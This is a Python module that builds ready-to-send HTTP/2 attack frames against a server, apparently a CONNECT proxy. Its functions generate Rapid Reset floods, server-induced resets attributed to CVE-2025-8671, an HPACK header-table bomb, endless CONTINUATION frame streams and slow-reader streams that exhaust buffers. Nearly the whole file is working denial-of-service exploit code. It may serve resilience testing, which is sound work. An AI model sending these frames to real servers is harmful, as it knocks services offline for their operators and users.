# SPDX-License-Identifier: Apache-2.0
"""HTTP/2 frames of an attacker, made beforehand so that sending them costs it next to nothing."""
import struct

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
HUGE = (1 << 31) - 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings(**values):
    codes = dict(table=1, streams=3, window=4, frame=5, headers=6)
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", codes[name], value) for name, value in values.items()))


ACK = frame(SETTINGS, 1, 0)
HELLO = PREFACE + settings(window=1 << 20) + ACK


def block(pairs):
    """A header block that leaves nothing in the table, so that it means the same wherever it is sent."""
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(name, value) for name, value in pairs])


def connect(authority):
    return block([(":method", "CONNECT"), (":authority", authority)])


def request(stream, authority, extra=b"", flags=END_HEADERS):
    return frame(HEADERS, flags, stream, connect(authority) + extra)


def window_update(stream, count):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", count))


def reset(stream, code=8):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", code))


def streams(count):
    return range(1, 2 * count, 2)


def many(piece, size=1 << 18):
    return piece * max(1, size // len(piece))


def rapid_resets(authority, count=20_000):
    return b"".join(request(stream, authority) + reset(stream) for stream in streams(count))


def made_resets(authority, count=10_000):
    """Streams that the server is made to reset itself (CVE-2025-8671): by a WINDOW_UPDATE of nothing, or by two that are too much."""
    pieces = []
    for stream in streams(count):
        bad = [window_update(stream, 0), window_update(stream, HUGE) * 2][stream // 2 % 2]
        pieces.append(request(stream, authority) + bad)
    return b"".join(pieces)


def header_bomb(authority, count=4000):
    """One field of 4,000 bytes goes into the table; each stream then names it by one byte, a thousand times."""
    put = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"v" * 4000
    first = frame(HEADERS, END_HEADERS, 1, connect(authority) + put)
    return first + b"".join(request(stream, authority, b"\xbe" * 1000) for stream in streams(count) if stream > 1)


def continuations(authority):
    return frame(HEADERS, 0, 1, connect(authority)) + many(frame(CONTINUATION, 0, 1))


def long_blocks(authority):
    """A block that never ends, of fields that are never kept."""
    return frame(HEADERS, 0, 1, connect(authority)) + many(frame(CONTINUATION, 0, 1, block([("x", "y" * 16000)])))


def get(stream, path):
    return frame(DATA, 0, stream, b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % path)


def readers(authority, count, window, path=b"/big"):
    """Streams that ask the application for more than is ever taken."""
    opened = b"".join(request(stream, authority) + get(stream, path) for stream in streams(count))
    return PREFACE + settings(window=window) + ACK + window_update(0, HUGE - 65535) + opened


def count_frames(data, rest, kind):
    """How many frames of a kind are complete in `rest + data`, and the bytes that are left over."""
    data = rest + data
    found, at = 0, 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at : at + 3], "big")
        if at + 9 + length > len(data):
            break
        found += data[at + 3] == kind
        at += 9 + length
    return found, data[at:]
